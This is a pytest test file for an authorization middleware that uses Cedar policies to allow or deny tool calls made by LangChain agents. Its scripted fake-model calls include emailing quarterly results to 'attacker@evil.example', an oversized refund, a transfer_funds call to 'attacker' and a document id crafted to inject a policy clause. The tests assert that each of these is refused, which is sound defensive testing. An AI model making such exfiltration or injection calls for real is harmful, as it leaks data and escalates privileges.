"""create_agent tool-calling loops decided by Cedar: AuthzMiddleware and AuthorizedTool."""

from __future__ import annotations

import asyncio
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Annotated, Any

import pytest

pytest.importorskip("langchain_core")
pytest.importorskip("langchain.agents")

from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.runnables import RunnableConfig
from langchain_core.tools import BaseTool, InjectedToolCallId, tool
from langgraph.prebuilt import InjectedState, ToolRuntime
from pydantic import Field

import agentauthz as az
from agentauthz.integrations.langchain import PRINCIPAL_KEY, AuthorizedTool, AuthzMiddleware, authorize_tools

ROOT = Path(__file__).resolve().parents[2]
POLICIES = ROOT / "policies"
DEMO = ROOT / "examples" / "langchain_agent.py"
DOCUMENT_TOOLS = ("read_document", "delete_document")


class ScriptedChatModel(GenericFakeChatModel):
    """Replays scripted replies; records the tool names offered at each model call."""

    offered: list[list[str]] = Field(default_factory=list)

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> ScriptedChatModel:  # type: ignore[override]
        self.offered.append([getattr(t, "name", str(t)) for t in tools])
        return self


def scripted(*calls: tuple[str, dict[str, Any]]) -> ScriptedChatModel:
    replies = [
        AIMessage("", tool_calls=[{"name": name, "args": args, "id": f"call-{n}"}])
        for n, (name, args) in enumerate(calls)
    ]
    return ScriptedChatModel(messages=iter([*replies, AIMessage("Done.")]))


def as_user(name: str) -> RunnableConfig:
    return {"configurable": {PRINCIPAL_KEY: az.EntityUID("User", name)}}


def document(args: dict[str, Any]) -> az.EntityUID:
    return az.EntityUID("Document", args["document_id"])


def tool_messages(result: dict[str, Any]) -> list[ToolMessage]:
    return [m for m in result["messages"] if isinstance(m, ToolMessage)]


def events_for_tools(recorder: az.MemorySink) -> list[tuple[str, str]]:
    return [(e.action.split('"')[1], e.decision) for e in recorder.events]


@pytest.fixture
def recorder() -> az.MemorySink:
    return az.MemorySink()


@pytest.fixture
def authz(recorder: az.MemorySink) -> az.Authorizer:
    return az.Authorizer.from_directory(POLICIES, audit=[recorder])


@pytest.fixture
def ran() -> list[tuple[str, dict[str, Any]]]:
    return []


@pytest.fixture
def tools(ran: list[tuple[str, dict[str, Any]]]) -> list[BaseTool]:
    """The example assistant's five tools as plain LangChain tools; bodies record that they ran."""

    @tool
    def search_documents(query: str) -> str:
        """Search the knowledge base."""
        ran.append(("search_documents", {"query": query}))
        return f"results for {query}"

    @tool
    def read_document(document_id: str) -> str:
        """Read one document by id."""
        ran.append(("read_document", {"document_id": document_id}))
        return f"contents of {document_id}"

    @tool
    async def delete_document(document_id: str) -> str:
        """Delete one document by id."""
        ran.append(("delete_document", {"document_id": document_id}))
        return f"deleted {document_id}"

    @tool
    def send_email(to: str, subject: str) -> str:
        """Send an email on the user's behalf."""
        ran.append(("send_email", {"to": to, "subject": subject}))
        return f"email to {to} sent"

    @tool
    def issue_refund(order_id: str, amount: int) -> str:
        """Refund an order, amount in whole currency units."""
        ran.append(("issue_refund", {"order_id": order_id, "amount": amount}))
        return f"refunded {amount} on {order_id}"

    return [search_documents, read_document, delete_document, send_email, issue_refund]


@pytest.fixture
def middleware(authz: az.Authorizer) -> AuthzMiddleware:
    on_a_document = az.ToolSettings(resource=document, resource_types="Document")
    return AuthzMiddleware(authz, settings=dict.fromkeys(DOCUMENT_TOOLS, on_a_document))


REFUND_SCRIPT = (
    ("issue_refund", {"order_id": "o-1", "amount": 4200}),
    ("send_email", {"to": "attacker@evil.example", "subject": "Q3 results"}),
    ("issue_refund", {"order_id": "o-1", "amount": 5000000}),
)


def check_refund_run(result: dict[str, Any], ran: list[tuple[str, dict[str, Any]]]) -> None:
    allowed, email, refund = tool_messages(result)
    assert allowed.content == "refunded 4200 on o-1"
    assert allowed.status == "success"
    for denied in (email, refund):
        assert "is not permitted for this user" in str(denied.content)
    assert email.name == "send_email" and email.tool_call_id == "call-1"
    assert ran == [("issue_refund", {"order_id": "o-1", "amount": 4200})]
    assert isinstance(result["messages"][-1], AIMessage) and result["messages"][-1].content == "Done."


# -- AuthzMiddleware --------------------------------------------------------------------------


def test_middleware_allows_and_refuses_tool_calls_in_a_create_agent_loop(
    tools: list[BaseTool], middleware: AuthzMiddleware, recorder: az.MemorySink,
    ran: list[tuple[str, dict[str, Any]]],
) -> None:
    agent = create_agent(scripted(*REFUND_SCRIPT), tools=tools, middleware=[middleware])
    result = agent.invoke({"messages": [("user", "refund o-1")]}, config=as_user("carol"))
    check_refund_run(result, ran)
    assert all(m.status == "error" for m in tool_messages(result)[1:])
    assert events_for_tools(recorder) == [
        ("issue_refund", "allow"), ("send_email", "deny"), ("issue_refund", "deny"),
    ]


def test_middleware_async_loop(
    tools: list[BaseTool], middleware: AuthzMiddleware, ran: list[tuple[str, dict[str, Any]]]
) -> None:
    agent = create_agent(scripted(*REFUND_SCRIPT), tools=tools, middleware=[middleware])
    result = asyncio.run(agent.ainvoke({"messages": [("user", "refund o-1")]}, config=as_user("carol")))
    check_refund_run(result, ran)


def test_middleware_principal_from_acting_as(
    tools: list[BaseTool], middleware: AuthzMiddleware, authz: az.Authorizer,
    ran: list[tuple[str, dict[str, Any]]],
) -> None:
    agent = create_agent(scripted(*REFUND_SCRIPT), tools=tools, middleware=[middleware])
    with authz.acting_as(az.EntityUID("User", "carol")):
        result = agent.invoke({"messages": [("user", "refund o-1")]})
    check_refund_run(result, ran)


def test_middleware_without_an_end_user_raises_and_runs_nothing(
    tools: list[BaseTool], middleware: AuthzMiddleware, ran: list[tuple[str, dict[str, Any]]]
) -> None:
    agent = create_agent(scripted(*REFUND_SCRIPT), tools=tools, middleware=[middleware])
    with pytest.raises(az.IdentityError):
        agent.invoke({"messages": [("user", "refund o-1")]})
    no_filter = AuthzMiddleware(middleware.authz, filter_tools=False)
    agent = create_agent(scripted(*REFUND_SCRIPT), tools=tools, middleware=[no_filter])
    with pytest.raises(az.IdentityError):  # raised when the first tool call is decided
        asyncio.run(agent.ainvoke({"messages": [("user", "refund o-1")]}))
    assert ran == []


def test_the_model_is_offered_only_tools_the_user_could_use(
    tools: list[BaseTool], middleware: AuthzMiddleware, ran: list[tuple[str, dict[str, Any]]],
) -> None:
    everything = ["search_documents", "read_document", "delete_document", "send_email", "issue_refund"]
    for name, expected in [
        ("carol", everything),
        ("grace", ["search_documents", "read_document", "delete_document", "send_email"]),  # no refund role
        ("frank", ["search_documents", "read_document", "delete_document", "send_email"]),  # globex: disabled
    ]:
        model = scripted(("search_documents", {"query": "q"}))
        agent = create_agent(model, tools=tools, middleware=[middleware])
        agent.invoke({"messages": [("user", "hi")]}, config=as_user(name))
        assert model.offered == [expected, expected], name


def test_the_filter_runs_on_the_async_path_too(tools: list[BaseTool], middleware: AuthzMiddleware) -> None:
    model = scripted()
    agent = create_agent(model, tools=tools, middleware=[middleware])
    asyncio.run(agent.ainvoke({"messages": [("user", "hi")]}, config=as_user("frank")))
    assert model.offered == [["search_documents", "read_document", "delete_document", "send_email"]]


def test_a_hidden_tool_called_anyway_is_still_refused(
    tools: list[BaseTool], middleware: AuthzMiddleware, recorder: az.MemorySink,
    ran: list[tuple[str, dict[str, Any]]],
) -> None:
    model = scripted(("issue_refund", {"order_id": "g-1", "amount": 20}))
    agent = create_agent(model, tools=tools, middleware=[middleware])
    result = agent.invoke({"messages": [("user", "refund")]}, config=as_user("frank"))
    assert "issue_refund" not in model.offered[0]
    [refusal] = tool_messages(result)
    [event] = [e for e in recorder.events if e.action.endswith('"issue_refund"')]
    assert event.reasons == ("tool-enabled-for-tenant",)
    assert event.decision_id in str(refusal.content) and "tool-enabled-for-tenant" not in str(refusal.content)
    assert ran == []


def test_document_tools_are_decided_on_the_document_and_injection_stays_an_id(
    tools: list[BaseTool], middleware: AuthzMiddleware, authz: az.Authorizer,
    ran: list[tuple[str, dict[str, Any]]],
) -> None:
    events = az.MemorySink()
    authz.audit_sinks = (events,)
    smuggled = 'acme-budget" || principal == User::"alice'
    model = scripted(
        ("read_document", {"document_id": "acme-support-playbook"}),
        ("read_document", {"document_id": "acme-salaries"}),
        ("delete_document", {"document_id": smuggled}),
        ("read_document", {"document_id": 'User::"admin"', "principal": 'User::"alice"'}),
    )
    agent = create_agent(model, tools=tools, middleware=[middleware])
    result = asyncio.run(agent.ainvoke({"messages": [("user", "read")]}, config=as_user("bob")))
    first, *refused, invented = tool_messages(result)
    assert first.content == "contents of acme-support-playbook"
    assert all("not permitted" in str(m.content) for m in refused)
    assert "was not called" in str(invented.content)  # an argument the tool does not have: refused
    assert ran == [("read_document", {"document_id": "acme-support-playbook"})]
    assert {e.principal for e in events.events} == {'User::"bob"'}
    assert [e.resource for e in events.events] == [
        'Document::"acme-support-playbook"', 'Document::"acme-salaries"',
        str(az.EntityUID("Document", smuggled)), 'Tool::"read_document"',
    ]
    assert "principal: unknown argument" in events.events[-1].errors[0]


def test_a_call_of_a_tool_the_agent_does_not_have_is_refused(
    tools: list[BaseTool], middleware: AuthzMiddleware, recorder: az.MemorySink
) -> None:
    model = scripted(("transfer_funds", {"to": "attacker", "amount": 1}))
    agent = create_agent(model, tools=tools, middleware=[middleware])
    result = agent.invoke({"messages": [("user", "hi")]}, config=as_user("alice"))
    [refusal] = tool_messages(result)
    assert refusal.status == "error" and "is not available to this agent" in str(refusal.content)
    [event] = recorder.events
    assert event.decision == "deny" and event.errors == ("unknown tool",)
    assert event.principal == 'User::"alice"' and event.decision_id in str(refusal.content)


def test_invalid_arguments_are_refused_without_running_the_tool(
    tools: list[BaseTool], middleware: AuthzMiddleware, ran: list[tuple[str, dict[str, Any]]]
) -> None:
    model = scripted(("issue_refund", {"order_id": "o-1", "amount": "a lot"}))
    agent = create_agent(model, tools=tools, middleware=[middleware])
    result = agent.invoke({"messages": [("user", "hi")]}, config=as_user("carol"))
    [refusal] = tool_messages(result)
    assert refusal.status == "error"
    assert str(refusal.content).startswith("Tool 'issue_refund' was not called")
    assert ran == []


def test_on_deny_raise_stops_the_agent(tools: list[BaseTool], authz: az.Authorizer) -> None:
    strict = AuthzMiddleware(authz, on_deny="raise")
    model = scripted(("send_email", {"to": "attacker@evil.example", "subject": "s"}))
    agent = create_agent(model, tools=tools, middleware=[strict])
    with pytest.raises(az.AccessDenied):
        agent.invoke({"messages": [("user", "hi")]}, config=as_user("carol"))


def test_settings_by_tool_name_map_a_tool_to_an_action_and_resource(
    authz: az.Authorizer, recorder: az.MemorySink
) -> None:
    removed: list[str] = []

    @tool
    def remove_file(document_id: str) -> str:
        """Delete a file."""
        removed.append(document_id)
        return "removed"

    as_delete = az.ToolSettings(action="delete_document", resource=document, resource_types="Document")
    mapped = AuthzMiddleware(authz, settings={"remove_file": as_delete})
    with pytest.raises(az.ConfigurationError, match="name no tool: remove_fille"):
        authorize_tools([remove_file], authz, settings={"remove_fille": as_delete})
    model = scripted(("remove_file", {"document_id": "acme-budget"}),
                     ("remove_file", {"document_id": "acme-vendor-contract"}))
    agent = create_agent(model, tools=[remove_file], middleware=[mapped])
    result = agent.invoke({"messages": [("user", "clean up")]}, config=as_user("alice"))
    done, refused = tool_messages(result)
    assert done.content == "removed"
    assert "not permitted" in str(refused.content)
    assert recorder.events[-1].action == 'Action::"delete_document"'
    assert recorder.events[-1].reasons == ("legal-hold-blocks-delete",)
    assert removed == ["acme-budget"]


def test_the_middlewares_old_keyword_mappings_still_work_and_warn_at_the_callers_line(
    tools: list[BaseTool], authz: az.Authorizer, ran: list[tuple[str, dict[str, Any]]]
) -> None:
    with pytest.warns(DeprecationWarning, match=r"AuthzMiddleware\(resources=, resource_types=\)") as warned:
        old = AuthzMiddleware(authz, resources={name: document for name in DOCUMENT_TOOLS},
                              resource_types={name: ["Document"] for name in DOCUMENT_TOOLS})
    assert warned[0].filename == __file__
    spec = old.spec_for("read_document", tools[1])
    assert spec is not None and spec.resource is document and spec.resource_types == ("Document",)
    model = scripted(("read_document", {"document_id": "globex-design"}))
    agent = create_agent(model, tools=tools, middleware=[old])
    [refused] = tool_messages(agent.invoke({"messages": [("user", "read")]}, config=as_user("bob")))
    assert refused.status == "error" and ran == []


def test_a_tool_own_on_deny_under_the_middleware_overrides_the_middlewares(
    tools: list[BaseTool], authz: az.Authorizer, ran: list[tuple[str, dict[str, Any]]]
) -> None:
    strict = AuthzMiddleware(authz, settings={"send_email": az.ToolSettings(on_deny="raise")})
    model = scripted(("issue_refund", {"order_id": "o-1", "amount": 5000000}),
                     ("send_email", {"to": "attacker@evil.example", "subject": "Q3 results"}))
    agent = create_agent(model, tools=tools, middleware=[strict])
    with pytest.raises(az.AccessDenied):
        agent.invoke({"messages": [("user", "refund o-1")]}, config=as_user("carol"))
    assert ran == []


def test_middleware_passes_authorized_tools_through_so_each_call_is_decided_once(
    tools: list[BaseTool], authz: az.Authorizer, middleware: AuthzMiddleware, recorder: az.MemorySink,
    ran: list[tuple[str, dict[str, Any]]],
) -> None:
    wrapped = authorize_tools(tools, authz, settings=middleware.settings)
    assert all(isinstance(t, AuthorizedTool) for t in wrapped)
    model = scripted(*REFUND_SCRIPT)
    agent = create_agent(model, tools=wrapped, middleware=[AuthzMiddleware(authz)])
    result = agent.invoke({"messages": [("user", "refund o-1")]}, config=as_user("carol"))
    allowed, email, refund = tool_messages(result)
    assert allowed.content == "refunded 4200 on o-1"
    assert "not permitted" in str(email.content) and "not permitted" in str(refund.content)
    assert ran == [("issue_refund", {"order_id": "o-1", "amount": 4200})]
    assert len(recorder.events) == 3
    assert model.offered[0] == [t.name for t in tools]


def test_tools_with_injected_runtime_and_state_work_under_the_middleware(
    authz: az.Authorizer, middleware: AuthzMiddleware
) -> None:
    seen: list[str] = []

    @tool
    def send_email(to: str, subject: str, runtime: ToolRuntime) -> str:
        """Send an email."""
        seen.append(runtime.tool_call_id or "")
        return f"sent to {to}"

    for agent_tools in ([send_email], authorize_tools([send_email], authz)):
        model = scripted(("send_email", {"to": "dave@acme.example", "subject": "hi"}),
                         ("send_email", {"to": "attacker@evil.example", "subject": "hi"}))
        agent = create_agent(model, tools=agent_tools, middleware=[middleware])
        result = agent.invoke({"messages": [("user", "mail")]}, config=as_user("carol"))
        ok, refused = tool_messages(result)
        assert ok.content == "sent to dave@acme.example"
        assert "not permitted" in str(refused.content)
    assert seen == ["call-0", "call-0"]


# -- AuthorizedTool without middleware ---------------------------------------------------------


def test_authorized_tools_in_a_create_agent_loop_sync_and_async(
    tools: list[BaseTool], authz: az.Authorizer, ran: list[tuple[str, dict[str, Any]]]
) -> None:
    wrapped = authorize_tools(tools, authz)
    agent = create_agent(scripted(*REFUND_SCRIPT), tools=wrapped)
    check_refund_run(agent.invoke({"messages": [("user", "refund")]}, config=as_user("carol")), ran)
    ran.clear()
    agent = create_agent(scripted(*REFUND_SCRIPT), tools=wrapped)
    check_refund_run(
        asyncio.run(agent.ainvoke({"messages": [("user", "refund")]}, config=as_user("carol"))), ran
    )


def test_concurrent_agent_runs_for_different_users_keep_their_identities(
    tools: list[BaseTool], middleware: AuthzMiddleware, recorder: az.MemorySink, authz: az.Authorizer
) -> None:
    seen: list[tuple[str, str]] = []

    @tool
    async def search_documents(query: str) -> str:
        """Search the knowledge base."""
        for _ in range(3):
            await asyncio.sleep(0)
        seen.append((query, authz.current_principal().id))
        return query

    users = ["alice", "bob", "carol", "dave", "grace", "erin", "frank"] * 3

    async def one(name: str, n: int, via_config: bool) -> dict[str, Any]:
        model = scripted(("search_documents", {"query": name}), ("search_documents", {"query": name}))
        agent = create_agent(model, tools=[search_documents], middleware=[middleware])
        if via_config:
            return await agent.ainvoke({"messages": [("user", str(n))]}, config=as_user(name))
        with authz.acting_as(az.EntityUID("User", name)):
            return await agent.ainvoke({"messages": [("user", str(n))]})

    async def main() -> list[dict[str, Any]]:
        return await asyncio.gather(*(one(name, n, n % 2 == 0) for n, name in enumerate(users)))

    results = asyncio.run(main())
    assert len(results) == len(users)
    assert len(seen) == 2 * len(users)
    assert all(query == principal for query, principal in seen)
    assert authz.identity is None


def test_the_demo_runs_offline_and_shows_allowed_and_denied_calls() -> None:
    result = subprocess.run([sys.executable, str(DEMO)], capture_output=True, text=True, timeout=120,
                            check=False, cwd=ROOT)
    assert result.returncode == 0, result.stderr
    lines = [line.strip() for line in result.stdout.splitlines()]
    assert any(line.startswith("ALLOW") for line in lines)
    assert any(line.startswith("DENY") and "attacker@evil.example" in line for line in lines)
    assert "refund-finance-limit" in result.stdout and "tool-enabled-for-tenant" in result.stdout
    assert "IdentityError" in result.stdout
    assert result.stderr == ""



def test_injected_state_and_tool_call_id_reach_the_tool_beside_the_decided_arguments(
    authz: az.Authorizer, middleware: AuthzMiddleware
) -> None:
    seen: list[tuple[str, str, int]] = []

    @tool
    def send_email(to: str, subject: str, tool_call_id: Annotated[str, InjectedToolCallId],
                   state: Annotated[dict[str, Any], InjectedState]) -> str:
        """Send an email."""
        seen.append((to, tool_call_id, len(state["messages"])))
        return f"sent to {to}"

    for agent_tools, around in (([send_email], [middleware]), (authorize_tools([send_email], authz), [])):
        model = scripted(("send_email", {"to": "dave@acme.example", "subject": "hi"}))
        agent = create_agent(model, tools=agent_tools, middleware=around)
        [sent] = tool_messages(agent.invoke({"messages": [("user", "mail")]}, config=as_user("carol")))
        assert sent.content == "sent to dave@acme.example"
    assert seen == [("dave@acme.example", "call-0", 2)] * 2
